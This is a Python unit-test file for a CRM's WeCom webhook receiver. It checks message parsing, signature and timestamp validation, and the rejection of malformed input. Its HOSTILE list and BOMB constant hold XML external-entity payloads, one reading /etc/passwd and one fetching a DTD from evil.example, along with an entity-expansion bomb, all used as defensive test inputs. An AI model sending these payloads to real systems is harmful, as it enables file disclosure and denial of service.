"""WeCom: messages to an application and to a bot in a group."""

import json
from datetime import timedelta

import pytest

from crm.im.errors import MalformedWebhookError, StaleWebhookError, WrongReceiverError, WrongSignatureError
from crm.im.requests import WebhookRequest
from crm.im.vendors import wecom
from crm.im.vendors.callback import CallbackKeys
from tests.reference import sealed
from tests.unit.im.conftest import AES_KEY, NOW, RANDOM, SECONDS, WECOM, wecom_request, wecom_text

TEXT = "@客服-张敏 帮忙跟进客户B 售后问题"
BOT = CallbackKeys("wecom-token", AES_KEY, "")


def test_a_message_to_the_application() -> None:
    arrival = wecom.receive(wecom_request(wecom_text(TEXT)), WECOM, NOW)
    message = arrival.message
    assert message is not None
    assert (message.text, message.sender_id, message.id) == (TEXT, "wang-qiang", "7250312367889432145")
    assert (message.sent_at, message.group, message.chat_id) == (NOW, False, "")
    assert message.key == "wecom:ww-kairos:7250312367889432145"
    assert arrival.answer.body == ""


def test_a_message_to_a_bot_in_a_group() -> None:
    said = {
        "msgid": "CAIQ",
        "aibotid": "bot-1",
        "chatid": "chat-1",
        "chattype": "group",
        "from": {"userid": "wang-qiang"},
        "response_url": "https://qyapi.weixin.qq.com/cgi-bin/aibot/response?response_code=c",
        "msgtype": "text",
        "text": {"content": TEXT},
    }
    request = wecom_request(json.dumps(said), receive_id="", form='{"encrypt": "{}"}')
    message = wecom.receive(request, BOT, NOW).message
    assert message is not None
    assert (message.chat_id, message.group, message.text) == ("chat-1", True, TEXT)
    assert message.reply_url == said["response_url"]
    assert message.reply_until_at == NOW + timedelta(hours=1)


def test_what_is_said_among_pictures_and_what_is_spoken_is_text() -> None:
    def received(**said: object) -> str | None:
        known = {"msgid": "1", "aibotid": "b", "chatid": "c", "from": {"userid": "u"}, **said}
        request = wecom_request(json.dumps(known), receive_id="", form='{"encrypt": "{}"}')
        message = wecom.receive(request, BOT, NOW).message
        return message.text if message else None

    picture = {"msgtype": "image", "image": {"url": "https://x.example"}}
    mixed = {"msg_item": [{"msgtype": "text", "text": {"content": "看图"}}, picture]}
    assert received(msgtype="mixed", mixed=mixed) == "看图"
    assert received(msgtype="voice", voice={"content": "跟进客户B"}) == "跟进客户B"
    assert received(msgtype="text", text={"content": "  "}) is None
    assert received(msgtype="text", text=None) is None


def test_a_check_of_the_address_is_answered_with_the_bare_text() -> None:
    echo = sealed.callback(AES_KEY, RANDOM, b"1616140317555161061", b"ww-kairos")
    query = {
        "msg_signature": sealed.callback_signature(WECOM.token, SECONDS, "n", echo),
        "timestamp": SECONDS,
        "nonce": "n",
        "echostr": echo,
    }
    request = WebhookRequest.received("GET", query, {}, "")
    arrival = wecom.receive(request, WECOM, NOW)
    assert arrival.answer.body == "1616140317555161061"
    assert arrival.message is None
    spoilt = WebhookRequest.received("GET", {**query, "echostr": echo.replace("+", " ") + " "}, {}, "")
    with pytest.raises(WrongSignatureError):
        wecom.receive(spoilt, WECOM, NOW)


@pytest.mark.parametrize(
    ("kind", "skipped"), [("event", "not_a_message"), ("image", "no_text"), ("location", "no_text")]
)
def test_what_is_no_text_is_taken_and_left_alone(kind: str, skipped: str) -> None:
    arrival = wecom.receive(wecom_request(wecom_text("x", MsgType=kind)), WECOM, NOW)
    assert (arrival.message, arrival.skipped) == (None, skipped)


@pytest.mark.parametrize("late", [-301, 301, 86_400])
def test_an_old_or_future_time_is_refused(late: int) -> None:
    request = wecom_request(wecom_text(TEXT))
    with pytest.raises(StaleWebhookError):
        wecom.receive(request, WECOM, NOW + timedelta(seconds=late))


def test_another_companys_message_is_refused() -> None:
    with pytest.raises(WrongReceiverError):
        wecom.receive(wecom_request(wecom_text(TEXT), receive_id="ww-other"), WECOM, NOW)


@pytest.mark.parametrize("nonce", ["other", "非ASCII", ""])
def test_another_nonce_is_refused(nonce: str) -> None:
    with pytest.raises(WrongSignatureError):
        wecom.receive(wecom_request(wecom_text(TEXT), query={"nonce": nonce}), WECOM, NOW)


HOSTILE = [
    '<!DOCTYPE xml [<!ENTITY a SYSTEM "file:///etc/passwd">]><xml><Encrypt>&a;</Encrypt></xml>',
    '<!DOCTYPE xml SYSTEM "https://evil.example/x.dtd"><xml><Encrypt>{}</Encrypt></xml>',
    "<!DOCTYPE xml><xml><Encrypt>{}</Encrypt></xml>",
    "<xml><Encrypt>&undefined;</Encrypt></xml>",
    "<xml>" + "<a>" * 80_000,
    "<xml>" * 50_000,
    "<html><Encrypt>{}</Encrypt></html>",
    "<xml><Other>{}</Other></xml>",
    "<xml><a><Encrypt>{}</Encrypt></a></xml>",
    "<xml><Encrypt>{}</Encrypt>",
    "",
    "\0",
    "{",
    "[]",
    '{"encrypt": ["{}"]}',
    '{"encrypt": 5}',
]


@pytest.mark.parametrize("form", HOSTILE, ids=lambda form: form[:40] or "empty")
def test_a_hostile_form_is_refused(form: str) -> None:
    with pytest.raises(MalformedWebhookError):
        wecom.receive(wecom_request(wecom_text(TEXT), form=form), WECOM, NOW)


BOMB = (
    '<!DOCTYPE xml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><xml><Content>&b;</Content></xml>'
)


def test_an_entity_bomb_under_the_seal_is_refused_too() -> None:
    with pytest.raises(MalformedWebhookError):
        wecom.receive(wecom_request(BOMB), WECOM, NOW)


def test_members_of_a_message_that_are_missing_are_refused() -> None:
    with pytest.raises(MalformedWebhookError):
        wecom.receive(wecom_request(wecom_text(TEXT, MsgId="")), WECOM, NOW)
